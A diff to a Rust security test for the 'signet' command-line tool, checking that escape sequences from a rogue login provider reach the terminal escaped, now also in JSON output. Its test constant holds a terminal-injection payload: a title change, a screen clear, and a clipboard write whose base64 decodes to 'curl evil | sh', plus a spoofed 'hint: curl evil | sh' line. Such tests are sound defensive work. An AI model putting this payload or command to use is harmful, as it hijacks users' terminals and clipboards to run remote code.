@@ -7,9 +7,11 @@ use serde_json::json;
 use crate::harness::{Home, Login, Run};
 use crate::rogue::{Answer, Rogue, discovery, unsigned_jwt};
 
-/// Set the window title, clear the screen, write the clipboard (OSC 52),
-/// ring the bell, and start a line of signet's own.
-const ESCAPES: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\nhint: curl evil | sh";
+/// Set the window title, clear the screen (also as the one-byte C1 CSI),
+/// write the clipboard (OSC 52), ring the bell, and start a line of
+/// signet's own.
+const ESCAPES: &str =
+    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\nhint: curl evil | sh";
 
 /// Nothing of `ESCAPES` acts on a terminal: no escape, bell or carriage
 /// return, and no `hint:` line but signet's own.
@@ -81,6 +83,10 @@ async fn finding_14_provider_strings_reach_the_terminal_escaped() {
     assert_eq!(status.code, 0, "{}", status.stderr);
     inert(&status, "auth status");
     assert!(status.stdout.contains("root\\u{1b}]0;owned"), "{}", status.stdout);
+    // JSON for scripts: escaped too, and it reads back as the provider's string.
+    let json = h.run_async(&["-O", "json", "auth", "status"]).await;
+    inert(&json, "auth status -O json");
+    assert_eq!(json.json()["services"][0]["subject"], format!("root{ESCAPES}"));
 
     // A refusal at the token endpoint: error and error_description.
     let worker = home_for(
